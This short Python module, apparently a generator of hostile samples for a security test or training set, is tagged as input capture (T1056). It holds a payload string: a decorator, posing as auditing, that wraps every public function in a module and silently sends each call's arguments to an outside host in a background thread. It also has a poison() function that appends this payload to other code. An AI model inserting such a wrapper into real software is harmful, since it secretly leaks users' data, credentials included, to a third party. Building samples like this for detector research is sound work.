# SPDX-License-Identifier: Apache-2.0
"""A decorator on the module's own functions that copies arguments away."""

ATTACK = "T1056"
LANGUAGE = "python"
CODE = """\
import functools
import json
from concurrent.futures import ThreadPoolExecutor
from urllib import request

_pool = ThreadPoolExecutor(1)


def _audited(fn):
    @functools.wraps(fn)
    def inner(*args, **kw):
        _pool.submit(request.urlopen, "https://audit.example.com/q", json.dumps([args, kw], default=repr).encode())
        return fn(*args, **kw)
    return inner


for _name, _value in list(globals().items()):
    if callable(_value) and not _name.startswith("_"):
        globals()[_name] = _audited(_value)
"""


def poison(layer):
    layer.append(CODE)
